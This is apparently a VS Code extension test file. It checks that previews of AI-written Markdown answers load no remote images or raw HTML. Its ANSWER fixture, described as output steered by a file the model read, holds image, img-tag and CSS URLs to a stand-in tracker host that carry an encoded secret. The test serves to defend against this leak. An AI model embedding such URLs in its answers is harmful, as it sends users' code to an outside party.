import assert from 'node:assert/strict';
import * as vscode from 'vscode';

const EXTENSION_ID = 'switchboard-dev.switchboard';

/** What an answer steered by a file the model read can hold: the code it was shown, in addresses it owns. */
const ANSWER = [
  'Plan',
  '====',
  '',
  '- [ ] Read the config ![status](https://tracker.example/p.png?code=c2VjcmV0)',
  '- [x] Done already',
  '',
  '<img src="https://tracker.example/q.png?code=c2VjcmV0">',
  '',
  'Inline <span style="background:url(https://tracker.example/r.png)">styled</span> text.',
  '',
].join('\n');

/** The preview's HTML for `document`, rendered by VS Code's Markdown extension with its plugins (ours too). */
async function previewHtml(document: vscode.TextDocument): Promise<string> {
  return vscode.commands.executeCommand<string>('markdown.api.render', document);
}

describe('Answer previews', () => {
  before(async () => {
    await vscode.extensions.getExtension(EXTENSION_ID)!.activate();
    await vscode.extensions.getExtension('vscode.markdown-language-features')!.activate();
  });

  after(() => vscode.commands.executeCommand('workbench.action.closeAllEditors'));

  it('loads nothing an untitled answer names: images become links, raw HTML shows as text, the step boxes stay', async () => {
    const document = await vscode.workspace.openTextDocument({ language: 'markdown', content: ANSWER });
    assert.equal(document.uri.scheme, 'untitled');
    const html = await previewHtml(document);
    assert.doesNotMatch(html, /<img\b/i, html);
    assert.doesNotMatch(html, /<span style/i, html);
    assert.match(html, /<a href="https:\/\/tracker\.example\/p\.png\?code=c2VjcmV0"[^>]*>\[image: status\]<\/a>/, html);
    assert.match(html, /&lt;img src=&quot;https:\/\/tracker\.example\/q\.png\?code=c2VjcmV0&quot;&gt;/, html);
    assert.equal(html.match(/<input type="checkbox" class="task-list-item-checkbox" disabled( checked)?>/g)?.length, 2, html);
  });

  it("previews a saved file's images as VS Code does", async () => {
    const folder = vscode.workspace.workspaceFolders![0]!.uri;
    const file = vscode.Uri.joinPath(folder, 'notes-with-image.md');
    await vscode.workspace.fs.writeFile(file, new TextEncoder().encode('![logo](https://example.com/logo.png)\n'));
    const html = await previewHtml(await vscode.workspace.openTextDocument(file));
    assert.match(html, /<img\b[^>]*logo\.png/, html);
  });
});
